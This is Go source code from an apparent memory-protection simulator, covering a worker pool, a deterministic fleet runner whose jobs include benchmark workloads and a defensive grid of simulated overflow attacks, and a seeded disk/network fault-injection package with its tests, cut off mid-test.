// queued tasks (0 means "workers", the smallest backlog that never starves
// an idle worker). Close the pool to drain and release them.
func NewPool(workers, backlog int) (*Pool, error) {
	if workers <= 0 {
		return nil, fmt.Errorf("fleet: pool needs a positive worker count, got %d", workers)
	}
	if backlog <= 0 {
		backlog = workers
	}
	ctx, cancel := context.WithCancel(context.Background())
	p := &Pool{
		tasks:   make(chan Task, backlog),
		workers: workers,
		backlog: backlog,
		ctx:     ctx,
		cancel:  cancel,
	}
	for i := 0; i < workers; i++ {
		p.wg.Add(1)
		go p.worker()
	}
	return p, nil
}

func (p *Pool) worker() {
	defer p.wg.Done()
	for task := range p.tasks {
		p.mu.Lock()
		p.queued--
		p.running++
		p.mu.Unlock()
		p.runTask(task)
		p.mu.Lock()
		p.running--
		p.done++
		p.mu.Unlock()
	}
}

// runTask executes one task inside a crash domain: a panicking task is
// recovered and counted, and the worker goroutine survives to service the
// rest of the backlog. One job's death never poisons its siblings — without
// this, a single panic would strand the worker's share of the queue and
// deadlock Close.
func (p *Pool) runTask(task Task) {
	defer func() {
		if r := recover(); r != nil {
			p.mu.Lock()
			p.panics++
			p.mu.Unlock()
		}
	}()
	task(p.ctx)
}

// Panics reports how many tasks died by panic over the pool's lifetime.
func (p *Pool) Panics() uint64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.panics
}

// TrySubmit offers a task to the pool without blocking. It returns false
// when the backlog is full or the pool is closed — the caller sheds load
// (the service's 429 path) instead of queueing unboundedly. A task that
// TrySubmit accepts is guaranteed to run, even if the pool closes first.
func (p *Pool) TrySubmit(task Task) bool {
	if task == nil {
		return false
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.closed || p.queued >= p.backlog {
		return false
	}
	// Accounting happens under the lock, so queued never exceeds the
	// backlog even under concurrent submitters; the channel has exactly
	// backlog slots, so this send cannot block.
	p.queued++
	p.tasks <- task
	return true
}

// Depth reports accepted-but-unfinished tasks: queued plus running.
func (p *Pool) Depth() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.queued + p.running
}

// Stats reports the pool's instantaneous load: tasks waiting in the
// backlog, tasks executing, and tasks completed over the pool's lifetime.
func (p *Pool) Stats() (queued, running int, done uint64) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.queued, p.running, p.done
}

// SetTemplate installs (or clears, with nil) a warm-boot template. Tasks
// that call Fork get machines booted from this image — bit-identical to the
// machine the image was taken from, sharing its frames copy-on-write — and
// skip the assemble/load/boot cost of a cold start. Safe to call while tasks
// run; in-flight Forks use whichever template they observe.
func (p *Pool) SetTemplate(img *splitmem.Image) {
	p.mu.Lock()
	p.template = img
	p.mu.Unlock()
}

// Template returns the current warm-boot template, or nil.
func (p *Pool) Template() *splitmem.Image {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.template
}

// Fork boots a machine from the pool's template. The caller owns the
// machine and must Close it when done so the template's frame refcount
// drains. Returns an error wrapping splitmem.ErrBadImage if no template is
// installed or the template fails to boot.
func (p *Pool) Fork() (*splitmem.Machine, error) {
	tmpl := p.Template()
	if tmpl == nil {
		return nil, fmt.Errorf("%w: pool has no template image", splitmem.ErrBadImage)
	}
	m, err := tmpl.Boot()
	if err != nil {
		return nil, err
	}
	p.forks.Add(1)
	return m, nil
}

// ForkCount reports how many machines were forked from the pool's template
// over its lifetime.
func (p *Pool) ForkCount() uint64 { return p.forks.Load() }

// Workers returns the pool's worker count.
func (p *Pool) Workers() int { return p.workers }

// Backlog returns the pool's queued-task capacity.
func (p *Pool) Backlog() int { return p.backlog }

// Close stops admission, waits for every accepted task (queued and
// running) to finish, then releases the workers. Safe to call twice.
func (p *Pool) Close() {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		p.wg.Wait()
		return
	}
	p.closed = true
	p.mu.Unlock()
	close(p.tasks)
	p.wg.Wait()
	p.cancel()
}

// Cancel signals the pool's lifetime context. Running tasks that honor it
// (Machine.RunContext) stop within one scheduler timeslice; Close still
// waits for them to return.
func (p *Pool) Cancel() { p.cancel() }
