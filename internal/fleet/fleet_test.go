package fleet

import (
	"strings"
	"testing"

	"splitmem"
)

func nbenchJob(t *testing.T) Job {
	t.Helper()
	j, err := WorkloadJob("nbench")
	if err != nil {
		t.Fatal(err)
	}
	return j
}

func TestDeriveSeedDeterministicAndDistinct(t *testing.T) {
	seen := map[int64]int{}
	for id := 0; id < 1000; id++ {
		s := DeriveSeed(42, id)
		if s2 := DeriveSeed(42, id); s2 != s {
			t.Fatalf("id %d: %d != %d", id, s, s2)
		}
		if prev, dup := seen[s]; dup {
			t.Fatalf("seed collision: ids %d and %d both map to %d", prev, id, s)
		}
		seen[s] = id
	}
	if DeriveSeed(42, 0) == DeriveSeed(43, 0) {
		t.Fatal("different masters must derive different seeds")
	}
}

func TestFleetConfigValidation(t *testing.T) {
	if _, err := Run(Config{N: 0, Job: nbenchJob(t)}); err == nil {
		t.Fatal("N=0 must be rejected")
	}
	if _, err := Run(Config{N: 1}); err == nil {
		t.Fatal("nil Job must be rejected")
	}
}

// TestFleetWorkloadAggregate runs a small fleet under the split engine with
// telemetry on, concurrently — the -race CI lane turns this into the merge
// race detector.
func TestFleetWorkloadAggregate(t *testing.T) {
	agg, err := Run(Config{
		N:       6,
		Workers: 3,
		Seed:    0xF1EE7,
		Machine: splitmem.Config{Protection: splitmem.ProtSplit, Telemetry: true},
		Job:     nbenchJob(t),
	})
	if err != nil {
		t.Fatal(err)
	}
	if agg.Errors != 0 {
		for _, m := range agg.Machines {
			if m.Err != nil {
				t.Errorf("machine %d: %v", m.ID, m.Err)
			}
		}
		t.FailNow()
	}
	if got := agg.Reasons[splitmem.ReasonAllDone]; got != 6 {
		t.Fatalf("ReasonAllDone count = %d want 6", got)
	}
	if agg.Totals.Instructions == 0 || agg.Totals.Cycles == 0 {
		t.Fatalf("empty totals: %+v", agg.Totals)
	}
	if agg.Totals.Work == 0 {
		t.Fatal("no work reported")
	}
	// Per-machine seeds must be the derived ones.
	for i, m := range agg.Machines {
		if m.Seed != DeriveSeed(0xF1EE7, i) {
			t.Fatalf("machine %d seed %d", i, m.Seed)
		}
	}
	// The merged hub must hold the sum of the per-machine counters: each
	// machine retired the same deterministic program, so the merged
	// instruction gauge is 6x one machine's.
	if agg.Hub == nil {
		t.Fatal("no merged hub despite Telemetry")
	}
	report := agg.Report()
	if !strings.Contains(report, "6 machines") {
		t.Fatalf("report: %s", report)
	}
}

// TestFleetDeterminism: the same fleet configuration must produce
// bit-identical per-machine results regardless of worker count.
func TestFleetDeterminism(t *testing.T) {
	run := func(workers int) *Aggregate {
		agg, err := Run(Config{
			N:       4,
			Workers: workers,
			Seed:    7,
			Machine: splitmem.Config{Protection: splitmem.ProtSplit, RandomizeStack: true},
			Job:     nbenchJob(t),
		})
		if err != nil {
			t.Fatal(err)
		}
		if agg.Errors != 0 {
			t.Fatalf("errors: %+v", agg.Machines)
		}
		return agg
	}
	serial := run(1)
	parallel := run(4)
	for i := range serial.Machines {
		s, p := serial.Machines[i], parallel.Machines[i]
		if s.Seed != p.Seed {
			t.Fatalf("machine %d: seeds diverge", i)
		}
		if s.Stats != p.Stats {
			t.Fatalf("machine %d: stats diverge\nserial   %+v\nparallel %+v",
				i, s.Stats, p.Stats)
		}
	}
	if serial.Totals != parallel.Totals {
		t.Fatalf("totals diverge:\nserial   %+v\nparallel %+v",
			serial.Totals, parallel.Totals)
	}
}

// TestFleetJobErrorIsolation: one failing machine must not take down the
// fleet.
func TestFleetJobErrorIsolation(t *testing.T) {
	inner := nbenchJob(t)
	job := func(id int, cfg splitmem.Config) (Result, error) {
		if id == 1 {
			return Result{}, errBoom
		}
		return inner(id, cfg)
	}
	agg, err := Run(Config{N: 3, Workers: 3, Seed: 1, Job: job})
	if err != nil {
		t.Fatal(err)
	}
	if agg.Errors != 1 {
		t.Fatalf("errors=%d want 1", agg.Errors)
	}
	if agg.Machines[1].Err == nil {
		t.Fatal("machine 1 should carry its error")
	}
	if agg.Reasons[splitmem.ReasonAllDone] != 2 {
		t.Fatalf("reasons: %v", agg.Reasons)
	}
}

var errBoom = &fleetTestError{}

type fleetTestError struct{}

func (*fleetTestError) Error() string { return "boom" }

// TestFleetAttackGrid: N machines each run the full Wilander grid; every
// machine must foil every applicable form under the split engine.
func TestFleetAttackGrid(t *testing.T) {
	if testing.Short() {
		t.Skip("attack grid fleet is slow")
	}
	agg, err := Run(Config{
		N:       2,
		Workers: 2,
		Seed:    3,
		Machine: splitmem.Config{Protection: splitmem.ProtSplit},
		Job:     AttackGridJob(),
	})
	if err != nil {
		t.Fatal(err)
	}
	if agg.Errors != 0 {
		t.Fatalf("errors: %+v", agg.Machines)
	}
	if agg.Machines[0].Work == 0 {
		t.Fatal("no forms foiled?")
	}
	if agg.Machines[0].Work != agg.Machines[1].Work {
		t.Fatalf("grids disagree: %v vs %v", agg.Machines[0].Note, agg.Machines[1].Note)
	}
	if agg.Totals.Detections == 0 {
		t.Fatal("split engine never detected anything")
	}
}
