// Package fleet runs a fleet of independent S86 machines concurrently.
//
// Each simulated machine is strictly single-threaded (the simulator's
// contract), so the fleet parallelizes ACROSS machines, never within one: a
// worker pool pops machine indices, builds a fresh machine per index from a
// shared configuration template with a deterministically derived per-machine
// seed, runs the job to completion, and folds the machine's telemetry into
// one aggregate hub through the registry's lock-protected merge path.
//
// Determinism: machine i of an N-machine fleet produces bit-identical
// results regardless of worker count, scheduling order, or whether any
// other machine runs at all — the only cross-machine communication is the
// commutative fold of finished results. The fleet tests pin this down
// under -race.
package fleet

import (
	"context"
	"fmt"
	"sort"
	"sync"
	"time"

	"splitmem"
	"splitmem/internal/attacks"
	"splitmem/internal/telemetry"
	"splitmem/internal/workloads"
)

// Job runs one machine of the fleet. It receives the machine's index and
// the per-machine configuration (template + derived seed) and returns what
// the machine produced. Jobs must be self-contained: no shared mutable
// state, all randomness from cfg.Seed.
type Job func(id int, cfg splitmem.Config) (Result, error)

// Result is one machine's outcome.
type Result struct {
	Run   splitmem.RunResult // why the machine's Run returned
	Stats splitmem.Stats     // final counters
	Work  float64            // work units completed (workload jobs)
	Hub   *telemetry.Hub     // the machine's telemetry, nil when disabled
	Note  string             // human-readable job summary
}

// MachineResult pairs a Result with its fleet bookkeeping.
type MachineResult struct {
	ID   int
	Seed int64 // the derived splitmem.Config.Seed
	Result
	Err  error
	Host time.Duration // host wall time this machine took
}

// Totals sums the fleet-relevant counters across machines.
type Totals struct {
	Cycles              uint64
	Instructions        uint64
	PageFaults          uint64
	CtxSwitches         uint64
	Syscalls            uint64
	Detections          uint64
	DecodeHits          uint64
	DecodeMisses        uint64
	DecodeInvalidations uint64
	Work                float64
}

// Aggregate is the merged report of a fleet run.
type Aggregate struct {
	Machines []MachineResult // indexed by machine ID
	Totals   Totals
	Reasons  map[splitmem.StopReason]int // stop-reason histogram
	Errors   int                         // machines whose job returned an error
	Hub      *telemetry.Hub              // merged metrics, nil unless template telemetry
	Wall     time.Duration               // host wall time for the whole fleet
}

// Config describes a fleet run.
type Config struct {
	N       int             // number of machines (required, > 0)
	Workers int             // concurrent workers; default min(N, 4)
	Seed    uint64          // master seed; per-machine seeds are derived from it
	Machine splitmem.Config // template; Seed is overwritten per machine
	Job     Job             // required
}

// DeriveSeed maps (master, machine id) to the machine's seed with a
// splitmix64 finalizer: well-distributed, deterministic, and independent of
// every other machine's seed.
func DeriveSeed(master uint64, id int) int64 {
	x := master + (uint64(id)+1)*0x9E3779B97F4A7C15
	x ^= x >> 30
	x *= 0xBF58476D1CE4E5B9
	x ^= x >> 27
	x *= 0x94D049BB133111EB
	x ^= x >> 31
	return int64(x)
}

// Run executes the fleet and returns the aggregate. A job error fails only
// its machine (recorded in Machines[i].Err and Errors), never the fleet;
// the only error Run itself returns is a bad Config.
func Run(cfg Config) (*Aggregate, error) {
	if cfg.N <= 0 {
		return nil, fmt.Errorf("fleet: N must be positive, got %d", cfg.N)
	}
	if cfg.Job == nil {
		return nil, fmt.Errorf("fleet: no Job configured")
	}
	workers := cfg.Workers
	if workers <= 0 {
		workers = 4
	}
	if workers > cfg.N {
		workers = cfg.N
	}

	agg := &Aggregate{
		Machines: make([]MachineResult, cfg.N),
		Reasons:  map[splitmem.StopReason]int{},
	}
	if cfg.Machine.Telemetry {
		agg.Hub = telemetry.NewHub(telemetry.Options{SpanCap: 1})
	}

	start := time.Now()
	// The batch run is a persistent Pool used once: a backlog of N admits
	// the whole fleet up front, and Close drains it.
	pool, err := NewPool(workers, cfg.N)
	if err != nil {
		return nil, err
	}
	var wg sync.WaitGroup
	for id := 0; id < cfg.N; id++ {
		id := id
		wg.Add(1)
		pool.TrySubmit(func(context.Context) {
			defer wg.Done()
			mcfg := cfg.Machine
			mcfg.Seed = DeriveSeed(cfg.Seed, id)
			t0 := time.Now()
			res, err := cfg.Job(id, mcfg)
			// Each worker writes only its own index; the merge below is
			// the single lock-protected cross-machine operation.
			agg.Machines[id] = MachineResult{
				ID: id, Seed: mcfg.Seed, Result: res, Err: err,
				Host: time.Since(t0),
			}
			agg.Hub.Merge(res.Hub)
		})
	}
	wg.Wait()
	pool.Close()
	agg.Wall = time.Since(start)

	for i := range agg.Machines {
		mr := &agg.Machines[i]
		if mr.Err != nil {
			agg.Errors++
			continue
		}
		agg.Reasons[mr.Run.Reason]++
		s := mr.Stats
		agg.Totals.Cycles += s.Cycles
		agg.Totals.Instructions += s.Instructions
		agg.Totals.PageFaults += s.PageFaults
		agg.Totals.CtxSwitches += s.CtxSwitches
		agg.Totals.Syscalls += s.Syscalls
		agg.Totals.Detections += s.Split.Detections
		agg.Totals.DecodeHits += s.DecodeHits
		agg.Totals.DecodeMisses += s.DecodeMisses
		agg.Totals.DecodeInvalidations += s.DecodeInvalidations
		agg.Totals.Work += mr.Work
	}
	return agg, nil
}

// Report renders the aggregate as a human-readable summary.
func (a *Aggregate) Report() string {
	t := a.Totals
	out := fmt.Sprintf("fleet: %d machines in %v (%d failed)\n",
		len(a.Machines), a.Wall.Round(time.Millisecond), a.Errors)
	reasons := make([]splitmem.StopReason, 0, len(a.Reasons))
	for r := range a.Reasons {
		reasons = append(reasons, r)
	}
	sort.Slice(reasons, func(i, j int) bool { return reasons[i] < reasons[j] })
	for _, r := range reasons {
		out += fmt.Sprintf("  stop %-14v %d\n", r, a.Reasons[r])
	}
	out += fmt.Sprintf("  cycles       %d\n", t.Cycles)
	out += fmt.Sprintf("  instructions %d\n", t.Instructions)
	out += fmt.Sprintf("  syscalls     %d\n", t.Syscalls)
	out += fmt.Sprintf("  page faults  %d\n", t.PageFaults)
	if t.Detections > 0 {
		out += fmt.Sprintf("  detections   %d\n", t.Detections)
	}
	if t.Work > 0 {
		out += fmt.Sprintf("  work         %.0f (%.1f/Mcycle)\n", t.Work,
			t.Work/(float64(t.Cycles)/1e6))
	}
	if hits, misses := t.DecodeHits, t.DecodeMisses; hits+misses > 0 {
		out += fmt.Sprintf("  decode cache %.1f%% hit (%d hits, %d misses, %d invalidations)\n",
			100*float64(hits)/float64(hits+misses), hits, misses, t.DecodeInvalidations)
	}
	return out
}

// WorkloadJob returns a job that runs the cataloged workload program on a
// machine the job owns, so the fleet sees its stats and telemetry.
func WorkloadJob(name string) (Job, error) {
	prog, ok := workloads.Lookup(name)
	if !ok {
		return nil, fmt.Errorf("fleet: unknown workload %q", name)
	}
	return func(id int, cfg splitmem.Config) (Result, error) {
		m, err := splitmem.New(cfg)
		if err != nil {
			return Result{}, err
		}
		p, err := m.LoadAsm(prog.Src, fmt.Sprintf("%s-%d", prog.Name, id))
		if err != nil {
			return Result{}, err
		}
		if prog.Input != "" {
			p.StdinWrite([]byte(prog.Input))
			p.StdinClose()
		}
		run := m.Run(40_000_000_000)
		res := Result{Run: run, Stats: m.Stats(), Hub: m.Telemetry()}
		if run.Reason != splitmem.ReasonAllDone {
			return res, fmt.Errorf("%s-%d: run stopped: %v", prog.Name, id, run.Reason)
		}
		if exited, status := p.Exited(); !exited || status != 0 {
			return res, fmt.Errorf("%s-%d: exited=%v status=%d", prog.Name, id, exited, status)
		}
		res.Work = prog.Work
		res.Note = fmt.Sprintf("%s: %.0f work in %d cycles", prog.Name, prog.Work, m.Cycles())
		return res, nil
	}, nil
}

// AttackGridJob returns a job that runs the full extended Wilander grid
// (all techniques x all injection segments) under the machine configuration
// and reports how many attack forms were foiled. Work is the foiled count,
// so an aggregate over N machines proves N independent grids agreed.
func AttackGridJob() Job {
	return func(id int, cfg splitmem.Config) (Result, error) {
		cells, err := attacks.RunExtendedWilander(cfg)
		if err != nil {
			return Result{}, err
		}
		var foiled, applicable int
		var res Result
		for _, c := range cells {
			if c.NA {
				continue
			}
			applicable++
			if c.Result.Foiled() {
				foiled++
			}
			s := c.Result.Stats
			res.Stats.Cycles += s.Cycles
			res.Stats.Instructions += s.Instructions
			res.Stats.PageFaults += s.PageFaults
			res.Stats.Syscalls += s.Syscalls
			res.Stats.Split.Detections += s.Split.Detections
			res.Stats.DecodeHits += s.DecodeHits
			res.Stats.DecodeMisses += s.DecodeMisses
			res.Stats.DecodeInvalidations += s.DecodeInvalidations
		}
		res.Run = splitmem.RunResult{Reason: splitmem.ReasonAllDone}
		res.Work = float64(foiled)
		res.Note = fmt.Sprintf("attack grid: %d/%d foiled", foiled, applicable)
		return res, nil
	}
}
