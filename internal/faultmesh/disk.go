package faultmesh

// Disk-level fault injection for the serve journal: ENOSPC (in bursts —
// full disks stay full), short writes, fsync failures, and read
// corruption during replay. DiskFaults implements serve.DiskFaultInjector;
// the journal consults it on every write, sync, and replayed record.

import (
	"errors"
	"sync"
	"sync/atomic"
)

// Errors the disk layer injects. They read like their errno counterparts
// so log lines stay legible.
var (
	// ErrInjectedENOSPC stands in for ENOSPC: the write (or its tail, for
	// short writes) never reached the disk.
	ErrInjectedENOSPC = errors.New("faultmesh: injected ENOSPC (no space left on device)")
	// ErrInjectedSyncFail stands in for an fsync EIO: the data may or may
	// not be durable — the journal must assume not.
	ErrInjectedSyncFail = errors.New("faultmesh: injected fsync failure (input/output error)")
)

// DiskConfig sets the disk fault rates. Every rate is a probability in
// [0, 1] per opportunity (per write, per fsync, per replayed record).
type DiskConfig struct {
	// Seed drives the private splitmix64 stream; equal seeds and configs
	// inject identical fault schedules.
	Seed uint64

	// ENOSPC is the per-write probability of a full-disk event. Each event
	// fails ENOSPCBurst consecutive writes (default 4): real full disks do
	// not heal between appends, and the burst is what pushes the journal
	// past its degradation threshold.
	ENOSPC      float64
	ENOSPCBurst int

	ShortWrite  float64 // per write: only half the bytes reach the file
	SyncFail    float64 // per fsync
	ReadCorrupt float64 // per replayed record: flip one payload bit
}

func (c DiskConfig) withDefaults() DiskConfig {
	if c.ENOSPCBurst <= 0 {
		c.ENOSPCBurst = 4
	}
	return c
}

// Enabled reports whether any disk fault class has a nonzero rate.
func (c DiskConfig) Enabled() bool {
	return c.ENOSPC > 0 || c.ShortWrite > 0 || c.SyncFail > 0 || c.ReadCorrupt > 0
}

// DiskStats counts injected disk faults by class.
type DiskStats struct {
	ENOSPCs         uint64
	ShortWrites     uint64
	SyncFails       uint64
	ReadCorruptions uint64
}

// DiskFaults injects storage faults. One instance may be shared by every
// replica in a harness (each consults it under its own journal lock); the
// stream is mutex-guarded.
type DiskFaults struct {
	cfg      DiskConfig
	disabled atomic.Bool

	mu        sync.Mutex
	state     uint64
	burstLeft int
	stats     DiskStats
}

// NewDisk creates a disk fault injector.
func NewDisk(cfg DiskConfig) *DiskFaults {
	return &DiskFaults{cfg: cfg.withDefaults(), state: cfg.Seed ^ 0xE7037ED1A0B428DB}
}

// Quiesce stops injection: the disk "heals", letting degraded journals
// prove they recover. Resume re-enables it with the stream position kept.
func (d *DiskFaults) Quiesce() { d.disabled.Store(true) }

// Resume re-enables injection after a Quiesce.
func (d *DiskFaults) Resume() { d.disabled.Store(false) }

// Stats snapshots the per-class fault counters.
func (d *DiskFaults) Stats() DiskStats {
	if d == nil {
		return DiskStats{}
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.stats
}

func (d *DiskFaults) next() uint64 {
	d.state += 0x9E3779B97F4A7C15
	z := d.state
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

func (d *DiskFaults) roll(rate float64) bool {
	if rate <= 0 {
		return false
	}
	return float64(d.next()>>11)/(1<<53) < rate
}

// BeforeWrite implements serve.DiskFaultInjector: consulted once per
// journal write of n bytes. It returns how many bytes may reach the file
// and, when fewer than n, the error the write must report.
func (d *DiskFaults) BeforeWrite(n int) (int, error) {
	if d == nil || d.disabled.Load() {
		return n, nil
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	if d.burstLeft > 0 {
		d.burstLeft--
		d.stats.ENOSPCs++
		return 0, ErrInjectedENOSPC
	}
	if d.roll(d.cfg.ENOSPC) {
		d.burstLeft = d.cfg.ENOSPCBurst - 1
		d.stats.ENOSPCs++
		return 0, ErrInjectedENOSPC
	}
	if d.roll(d.cfg.ShortWrite) {
		d.stats.ShortWrites++
		return n / 2, ErrInjectedENOSPC
	}
	return n, nil
}

// BeforeSync implements serve.DiskFaultInjector: a non-nil return means
// the fsync failed and durability of everything since the last good sync
// is unknown.
func (d *DiskFaults) BeforeSync() error {
	if d == nil || d.disabled.Load() {
		return nil
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	if d.roll(d.cfg.SyncFail) {
		d.stats.SyncFails++
		return ErrInjectedSyncFail
	}
	return nil
}

// OnRead implements serve.DiskFaultInjector: it may flip one bit of a
// replayed record's payload in place (bit rot between the CRC being
// written and the record being read back), returning true if it did.
func (d *DiskFaults) OnRead(p []byte) bool {
	if d == nil || d.disabled.Load() || len(p) == 0 {
		return false
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	if !d.roll(d.cfg.ReadCorrupt) {
		return false
	}
	pos := d.next()
	p[pos%uint64(len(p))] ^= 1 << (pos % 8)
	d.stats.ReadCorruptions++
	return true
}
