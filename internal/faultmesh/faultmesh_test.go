package faultmesh

// Unit tests for the mesh and disk injectors. The load-bearing property is
// the determinism contract: equal seeds and configs must produce identical
// fault schedules, because a failing chaos campaign is only debuggable if
// its seed reproduces it. The rest pins each fault class's observable
// behavior at the HTTP client boundary.

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"time"
)

// meshBackend serves a fixed deterministic body so any mesh-side mutation
// (truncation, corruption) is visible as a byte diff.
func meshBackend(t *testing.T, hits *atomic.Int64) (*httptest.Server, []byte) {
	t.Helper()
	body := make([]byte, 8<<10)
	for i := range body {
		body[i] = byte(i * 31)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if hits != nil {
			hits.Add(1)
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Write(body)
	}))
	t.Cleanup(srv.Close)
	return srv, body
}

// outcome normalizes one request's observable result so two runs can be
// compared: transport error class, status, and the exact bytes received
// before any error.
func outcome(client *http.Client, url string) string {
	resp, err := client.Get(url)
	if err != nil {
		switch {
		case errors.Is(err, ErrInjectedReset):
			return "reset"
		case errors.Is(err, ErrInjectedPartition):
			return "partition"
		default:
			return "err:" + err.Error()
		}
	}
	defer resp.Body.Close()
	b, rerr := io.ReadAll(resp.Body)
	tag := fmt.Sprintf("status=%d bytes=%d sum=%d", resp.StatusCode, len(b), checksum(b))
	if rerr != nil {
		if errors.Is(rerr, ErrInjectedReset) {
			return tag + " midreset"
		}
		return tag + " readerr:" + rerr.Error()
	}
	return tag
}

func checksum(b []byte) uint64 {
	var h uint64 = 14695981039346656037
	for _, c := range b {
		h ^= uint64(c)
		h *= 1099511628211
	}
	return h
}

// TestMeshDeterministic is the acceptance check: two meshes with equal
// seeds and configs, fed an identical request sequence, inject an
// identical fault schedule — same per-request outcomes, same counters.
func TestMeshDeterministic(t *testing.T) {
	srv, _ := meshBackend(t, nil)
	cfg := Config{
		Seed:           77,
		Latency:        0.1,
		LatencyMin:     time.Microsecond,
		LatencyMax:     50 * time.Microsecond,
		Reset:          0.1,
		ResetMid:       0.1,
		Partition:      0.05,
		PartitionLen:   3,
		Asymmetric:     0.5,
		SlowLoris:      0.05,
		SlowLorisDelay: time.Microsecond,
		Truncate:       0.1,
		CorruptHeader:  0.1,
		Corrupt:        0.1,
	}
	const reqs = 300
	run := func() ([]string, Stats) {
		m := New(cfg)
		client := m.Client()
		outs := make([]string, reqs)
		for i := range outs {
			outs[i] = outcome(client, srv.URL)
		}
		return outs, m.Stats()
	}
	outA, statsA := run()
	outB, statsB := run()
	if statsA != statsB {
		t.Fatalf("same seed, different fault counters:\n  A: %+v\n  B: %+v", statsA, statsB)
	}
	if statsA.Total() == 0 {
		t.Fatalf("fault schedule injected nothing over %d requests: %+v", reqs, statsA)
	}
	for i := range outA {
		if outA[i] != outB[i] {
			t.Fatalf("request %d diverged between equal-seed runs:\n  A: %s\n  B: %s", i, outA[i], outB[i])
		}
	}

	// A different seed must produce a different schedule (with these rates,
	// a 300-request collision is astronomically unlikely — and determinism
	// would make any collision permanent, so this also guards against the
	// seed being ignored).
	cfg.Seed = 78
	outC, _ := run()
	same := true
	for i := range outA {
		if outA[i] != outC[i] {
			same = false
			break
		}
	}
	if same {
		t.Fatalf("seeds 77 and 78 produced identical %d-request schedules: seed is not wired in", reqs)
	}
}

// TestMeshPartition pins partition-window semantics: a symmetric window
// swallows requests before delivery, an asymmetric window delivers them
// (they take effect on the replica) but loses every response.
func TestMeshPartition(t *testing.T) {
	t.Run("symmetric", func(t *testing.T) {
		var hits atomic.Int64
		srv, _ := meshBackend(t, &hits)
		m := New(Config{Seed: 1, Partition: 1, PartitionLen: 4, Asymmetric: 0})
		client := m.Client()
		for i := 0; i < 5; i++ {
			if _, err := client.Get(srv.URL); !errors.Is(err, ErrInjectedPartition) {
				t.Fatalf("request %d: want injected partition, got %v", i, err)
			}
		}
		if hits.Load() != 0 {
			t.Fatalf("symmetric partition delivered %d requests to the backend", hits.Load())
		}
		if s := m.Stats(); s.PartitionDrops != 5 || s.PartitionWindows == 0 {
			t.Fatalf("unexpected partition stats: %+v", s)
		}
	})
	t.Run("asymmetric", func(t *testing.T) {
		var hits atomic.Int64
		srv, _ := meshBackend(t, &hits)
		m := New(Config{Seed: 1, Partition: 1, PartitionLen: 4, Asymmetric: 1})
		client := m.Client()
		for i := 0; i < 5; i++ {
			if _, err := client.Get(srv.URL); !errors.Is(err, ErrInjectedPartition) {
				t.Fatalf("request %d: want injected partition, got %v", i, err)
			}
		}
		if hits.Load() != 5 {
			t.Fatalf("asymmetric partition should deliver requests: backend saw %d of 5", hits.Load())
		}
	})
}

// TestMeshBodyFaults pins the response-body wrappers: truncation ends the
// body early with a clean EOF, corruption flips exactly one bit, and
// CorruptPaths confines corruption to matching paths.
func TestMeshBodyFaults(t *testing.T) {
	t.Run("truncate", func(t *testing.T) {
		srv, body := meshBackend(t, nil)
		m := New(Config{Seed: 3, Truncate: 1})
		resp, err := m.Client().Get(srv.URL)
		if err != nil {
			t.Fatal(err)
		}
		got, rerr := io.ReadAll(resp.Body)
		resp.Body.Close()
		if rerr != nil {
			t.Fatalf("truncation must be a clean EOF, got %v", rerr)
		}
		if len(got) >= len(body) {
			t.Fatalf("truncation did not shorten the body: got %d of %d bytes", len(got), len(body))
		}
		if !bytes.Equal(got, body[:len(got)]) {
			t.Fatal("truncated prefix does not match the original body")
		}
	})
	t.Run("corrupt-path-gating", func(t *testing.T) {
		srv, body := meshBackend(t, nil)
		m := New(Config{Seed: 3, Corrupt: 1, CorruptPaths: []string{"/checkpoint"}})
		client := m.Client()

		resp, err := client.Get(srv.URL + "/v1/jobs")
		if err != nil {
			t.Fatal(err)
		}
		got, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if !bytes.Equal(got, body) {
			t.Fatal("corruption fired on a path outside CorruptPaths")
		}

		resp, err = client.Get(srv.URL + "/v1/cluster/checkpoint/7")
		if err != nil {
			t.Fatal(err)
		}
		got, _ = io.ReadAll(resp.Body)
		resp.Body.Close()
		diff := 0
		for i := range got {
			if got[i] != body[i] {
				diff++
			}
		}
		if len(got) != len(body) || diff != 1 {
			t.Fatalf("body corruption should flip one byte in place: len %d vs %d, %d bytes differ",
				len(got), len(body), diff)
		}
		if m.Stats().BodyCorruptions != 1 {
			t.Fatalf("stats: %+v", m.Stats())
		}
	})
	t.Run("midreset", func(t *testing.T) {
		srv, body := meshBackend(t, nil)
		m := New(Config{Seed: 3, ResetMid: 1})
		resp, err := m.Client().Get(srv.URL)
		if err != nil {
			t.Fatal(err)
		}
		got, rerr := io.ReadAll(resp.Body)
		resp.Body.Close()
		if !errors.Is(rerr, ErrInjectedReset) {
			t.Fatalf("mid-body reset must surface as the injected reset, got %v", rerr)
		}
		if len(got) >= len(body) {
			t.Fatalf("mid-body reset after the whole body: %d bytes", len(got))
		}
	})
}

// TestMeshQuiesce: a quiesced mesh is a clean wire; Resume picks the
// schedule back up where it left off.
func TestMeshQuiesce(t *testing.T) {
	srv, body := meshBackend(t, nil)
	m := New(Config{Seed: 9, Reset: 1})
	client := m.Client()
	if _, err := client.Get(srv.URL); !errors.Is(err, ErrInjectedReset) {
		t.Fatalf("want injected reset before quiesce, got %v", err)
	}
	m.Quiesce()
	resp, err := client.Get(srv.URL)
	if err != nil {
		t.Fatalf("quiesced mesh must pass traffic, got %v", err)
	}
	got, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !bytes.Equal(got, body) {
		t.Fatal("quiesced mesh mutated the body")
	}
	m.Resume()
	if _, err := client.Get(srv.URL); !errors.Is(err, ErrInjectedReset) {
